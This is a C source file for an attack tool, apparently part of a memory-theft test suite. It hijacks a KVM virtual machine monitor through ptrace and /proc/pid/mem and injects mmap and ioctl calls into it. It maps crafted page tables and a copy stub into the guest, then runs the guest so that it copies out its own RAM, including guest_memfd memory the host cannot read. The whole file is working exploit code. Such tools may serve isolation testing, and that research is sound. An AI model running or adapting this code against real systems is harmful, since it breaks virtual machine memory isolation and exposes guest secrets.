/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * A monitor of virtual machines, driven by ptrace: have it lend its machine
 * memory of our choice, with page tables and code of ours in it, and run the
 * machine there. The machine itself copies out what the host cannot read.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kvm.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "puppet.h"
#include "theft.h"

/* What we lend: in the monitor at lent.at, in the machine at LENT. */
#define LENT	  0x20000000ul
#define LENT_SLOT 29u
#define AT_ROOT	  0x0000u
#define AT_1G	  0x1000u
#define AT_2M	  0x2000u /* the first GiB, address to address, all of it for ring 3 */
#define AT_CODE	  0x3000u
#define AT_ASK	  0x4000u /* what ioctl reads and writes */
#define AT_PIECE  0x10000u
#define PIECE	  0x10000u
#define LENT_SIZE (AT_PIECE + PIECE)

#define RAM    0x400000ul /* VM_IMAGE of rpc/vm.h; a thief knows it too */
#define TRIES  50
#define UNSURE 0x80000u

#define PTE_PAGE  0x67u /* present, writable, ring 3, accessed, dirty */
#define PTE_LARGE 0x80u

struct drive {
	struct puppet p;
	int mem, vm, vcpu;
	long lent;
	struct kvm_regs regs;
	struct kvm_sregs sregs;
};

static void
put(const struct drive *d, uint64_t at, const void *octets, size_t len)
{
	if (pwrite(d->mem, octets, len, (off_t)((uint64_t)d->lent + at)) != (ssize_t)len)
		theft_refused("write to /proc/%d/mem: %m", d->p.pid);
}

static void
get(const struct drive *d, uint64_t at, void *octets, size_t len)
{
	if (pread(d->mem, octets, len, (off_t)((uint64_t)d->lent + at)) != (ssize_t)len)
		theft_refused("read of /proc/%d/mem: %m", d->p.pid);
}

/* An ioctl of the monitor whose argument is what lies at AT_ASK. */
static long
ask(const struct drive *d, int fd, unsigned long request, void *what, size_t len)
{
	long done = 0;

	put(d, AT_ASK, what, len);
	done = puppet_call(&d->p, SYS_ioctl, fd, (long)request, d->lent + (long)AT_ASK);
	get(d, AT_ASK, what, len);
	return done;
}

/* The descriptor whose link has this in it; -1: none. */
static int
find(pid_t pid, const char *what)
{
	char path[64], link[64];
	ssize_t n = 0;

	for (int fd = 0; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		n = readlink(path, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		if (strstr(link, what) != NULL)
			return fd;
	}
	return -1;
}

/*
 * How much memory the machine has: as much as is behind the descriptor of
 * guest_memfd, else as the monitor's largest area, but for its end: areas that
 * touch are one in the map. A touch behind the end of the machine's memory would
 * leave it in the middle of an instruction.
 */
static uint64_t
ram_size(const struct theft *t)
{
	uint64_t size = 0;
	struct stat st = { 0 };
	char path[64];
	int fd = find(t->pid, "[kvm-gmem]");

	snprintf(path, sizeof(path), "/proc/%d/fd/%d", t->pid, fd);
	if (fd >= 0 && stat(path, &st) == 0)
		return (uint64_t)st.st_size;
	for (size_t i = 0; i < t->areas; i++) {
		const struct area *a = &t->area[i];

		if (a->perms[1] == 'w' && a->perms[3] == 'p' && a->end - a->start > size)
			size = a->end - a->start;
	}
	return size > UNSURE ? size - UNSURE : 0;
}

static void
lay_out(const struct drive *d)
{
	const uint8_t code[] = { 0xf3, 0xa4, 0xe7, 0x10, 0xf4 }; /* rep movsb; out; hlt */
	const uint64_t root = (LENT + AT_1G) | PTE_PAGE, one = (LENT + AT_2M) | PTE_PAGE;
	uint64_t large[512];

	for (size_t i = 0; i < 512; i++)
		large[i] = (i << 21) | PTE_PAGE | PTE_LARGE;
	put(d, AT_ROOT, &root, sizeof(root));
	put(d, AT_1G, &one, sizeof(one));
	put(d, AT_2M, large, sizeof(large));
	put(d, AT_CODE, code, sizeof(code));
}

static long
lend(const struct drive *d, uint64_t size)
{
	struct kvm_userspace_memory_region region = {
		.slot = LENT_SLOT,
		.guest_phys_addr = LENT,
		.memory_size = size,
		.userspace_addr = (uint64_t)d->lent,
	};

	return ask(d, d->vm, KVM_SET_USER_MEMORY_REGION, &region, sizeof(region));
}

/* Have the machine copy len octets at from to AT_PIECE. True: it did. */
static bool
copy(const struct drive *d, uint64_t from, uint64_t len)
{
	struct kvm_regs regs = { .rip = LENT + AT_CODE,
				 .rsi = from,
				 .rdi = LENT + AT_PIECE,
				 .rcx = len,
				 .rflags = 0x3002 };
	struct kvm_sregs sregs = d->sregs;
	long done = -EINTR;

	sregs.cr3 = LENT + AT_ROOT;
	if (ask(d, d->vcpu, KVM_SET_SREGS, &sregs, sizeof(sregs)) != 0 ||
	    ask(d, d->vcpu, KVM_SET_REGS, &regs, sizeof(regs)) != 0)
		return false;
	for (int i = 0; i < TRIES && (done == -EINTR || done == -EAGAIN); i++)
		done = puppet_call(&d->p, SYS_ioctl, d->vcpu, (long)KVM_RUN, 0);
	return done == 0 && ask(d, d->vcpu, KVM_GET_REGS, &regs, sizeof(regs)) == 0 &&
	       regs.rcx == 0 && regs.rsi == from + len;
}

static void
copy_all(const struct drive *d, struct theft *t)
{
	static uint8_t piece[PIECE];
	uint64_t size = ram_size(t), done = 0, len = PIECE;

	for (; done < size; done += len) {
		len = size - done < PIECE ? size - done : PIECE;
		if (!copy(d, RAM + done, len))
			break;
		get(d, AT_PIECE, piece, len);
		theft_write(t, piece, len);
	}
}

int
main(int argc, char **argv)
{
	struct drive d = { 0 };
	static struct theft t;
	char path[64];

	theft_begin(&t, argc, argv);
	snprintf(path, sizeof(path), "/proc/%d/mem", t.pid);
	d.mem = open(path, O_RDWR | O_CLOEXEC);
	if (d.mem < 0)
		theft_failed(path, errno);
	d.vm = find(t.pid, "anon_inode:kvm-vm");
	d.vcpu = find(t.pid, "anon_inode:kvm-vcpu");
	if (d.vm < 0 || d.vcpu < 0)
		theft_cannot("it is no monitor of a virtual machine");
	puppet_take(&d.p, &t);
	d.lent = puppet_call(&d.p, SYS_mmap, 0, LENT_SIZE, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (PUPPET_ERROR(d.lent))
		theft_refused("mmap in the monitor: %s", strerror((int)-d.lent));
	lay_out(&d);
	if (ask(&d, d.vcpu, KVM_GET_REGS, &d.regs, sizeof(d.regs)) == 0 &&
	    ask(&d, d.vcpu, KVM_GET_SREGS, &d.sregs, sizeof(d.sregs)) == 0 &&
	    lend(&d, LENT_SIZE) == 0) {
		copy_all(&d, &t);
		(void)ask(&d, d.vcpu, KVM_SET_SREGS, &d.sregs, sizeof(d.sregs));
		(void)ask(&d, d.vcpu, KVM_SET_REGS, &d.regs, sizeof(d.regs));
		(void)lend(&d, 0);
	}
	(void)puppet_call(&d.p, SYS_munmap, d.lent, LENT_SIZE);
	puppet_leave(&d.p);
	theft_end(&t, "the machine copied its own memory out");
}
